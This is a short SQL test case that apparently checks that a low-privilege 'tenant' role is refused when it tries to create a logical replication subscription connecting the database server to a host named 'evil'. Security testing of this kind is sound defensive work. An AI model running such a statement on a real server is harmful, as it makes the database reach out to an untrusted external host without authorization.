-- Makes the server connect to another one.
-- as: tenant
-- refused: 42501 permission denied to create subscription

CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
